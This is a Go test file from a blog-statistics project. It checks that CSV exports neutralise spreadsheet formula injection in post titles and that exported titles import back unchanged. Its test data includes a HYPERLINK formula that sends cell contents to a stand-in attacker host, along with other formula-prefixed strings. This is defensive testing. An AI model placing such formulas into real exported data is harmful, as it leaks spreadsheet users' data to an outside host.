package ledger

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/velog-dashboard/velog-dashboard/collector"
	"github.com/velog-dashboard/velog-dashboard/collector/dayexport"
	"github.com/velog-dashboard/velog-dashboard/collector/readingcsv"
)

// TestTitlesAreNoFormulas opens the exports as a spreadsheet does, and imports
// them again.
func TestTitlesAreNoFormulas(t *testing.T) { onEachEngine(t, testTitlesAreNoFormulas) }

func testTitlesAreNoFormulas(t *testing.T) {
	titles := []string{
		`=HYPERLINK("https://evil.example?"&A1)`, "+1-2", "-시작", "@sum", "＝1", "\tx", "'=quoted", "''=twice", "'no formula", "'", "plain = x",
	}
	db := openTest(t)
	id := addAccount(t, db, "velopert", noon())
	var result collector.ScrapeResult
	for i, title := range titles {
		o := seen(i+1, noon(), 10, 1, 0)
		o.Title = title
		result.Seen = append(result.Seen, o)
	}
	result.Account, result.At, result.Next = id, noon(), noon().Add(time.Hour)
	if _, err := db.StoreScrape(t.Context(), result); err != nil {
		t.Fatal(err)
	}
	var one, days bytes.Buffer
	if err := readingcsv.Export(t.Context(), db, []int64{id}, &one); err != nil {
		t.Fatal(err)
	}
	from, to := dayexport.AllDays()
	of := dayexport.Days{Accounts: []int64{id}, From: from, To: to, Format: dayexport.CSV}
	if err := dayexport.WritePosts(t.Context(), db, of, &days); err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{"all": exportText(t, db), "one": one.String(), "days": days.String()} {
		lines, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil || len(lines) != len(titles)+1 {
			t.Fatalf("%s: %d lines, %v", name, len(lines), err)
		}
		for _, line := range lines {
			if strings.ContainsAny(line[2][:1], "=+-@\t") || strings.HasPrefix(line[2], "＝") {
				t.Errorf("%s: %q is a formula", name, line[2])
			}
		}
	}
	copied := openTest(t)
	importText(t, copied, exportText(t, db))
	got := dump(t, copied, "SELECT title FROM posts ORDER BY id")
	want := dump(t, db, "SELECT title FROM posts ORDER BY id")
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("imported as %q, want %q", got, want)
	}
	for _, title := range titles {
		if !slices.ContainsFunc(want, func(row string) bool { return strings.Contains(row, title) }) {
			t.Errorf("%q is not in the ledger", title)
		}
	}
}
